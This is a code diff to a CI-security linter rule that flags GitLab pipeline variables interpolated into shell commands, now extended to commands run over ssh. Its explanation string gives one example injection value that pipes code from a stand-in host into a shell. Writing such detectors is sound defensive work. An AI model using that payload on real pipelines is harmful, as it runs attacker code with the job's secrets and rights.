@@ -23,7 +23,7 @@ export const variableInjection = defineRule({
   why: 'A branch name or title such as `$(curl evil.example | sh)` then runs in the job, with its variables and its rights.',
   fix: 'Pass the value as an argument: `bash -c \'… "$1"\' _ "$CI_COMMIT_REF_NAME"`.',
   blindSpots:
-    'Only shells, `eval`, interpreters that are given a program as an argument and here-documents that a shell runs are checked, not remote shells, databases or scripts of the repository. Inputs are followed only where `expand_vars` puts them into a script.',
+    'Only shells, `eval`, interpreters that are given a program as an argument, here-documents that a shell runs and what ssh runs elsewhere are checked, not databases or scripts of the repository. Inputs are followed only where `expand_vars` puts them into a script.',
   keywords: ['before_script', 'script', 'after_script', 'hooks:pre_get_sources_script', 'run', 'include:inputs'],
   level: 'warning',
   source: 'https://docs.gitlab.com/ci/pipeline_security/',
@@ -107,10 +107,22 @@ const INTERPRETERS: readonly (readonly [program: RegExp, option: RegExp])[] = [
 /** The words that a command reads as commands of their own. */
 function runTexts({ name, words }: JobCommand): readonly CommandWord[] {
   if (/^(?:eval|iex|invoke-expression)$/i.test(name)) return words.slice(1);
+  if (name === 'ssh') return remoteWords(words);
   const names = INTERPRETERS.find(([program]) => program.test(name))?.[1];
   const option = names ? words.findIndex((word, index) => index > 0 && names.test(word.text)) : -1;
   const script = option === -1 ? undefined : words[option + 1];
   return script ? [script] : [];
+}
+
+/** Options of ssh that take a value (OpenSSH 9.9). */
+const SSH_VALUE = /^-[46AaCfGgKkMNnqsTtVvXxYy]*[BbcDEeFIiJLlmOoPpQRSWw]$/;
+
+/** What the other machine's shell runs: all words behind the host, as one text. */
+function remoteWords(words: readonly CommandWord[]): readonly CommandWord[] {
+  const host = words.findIndex(({ text }, index) => {
+    return index > 0 && !text.startsWith('-') && !SSH_VALUE.test(words[index - 1]?.text ?? '');
+  });
+  return host === -1 ? [] : words.slice(host + 1);
 }
 
 /** `echo … | sh`: what is said becomes the commands. */
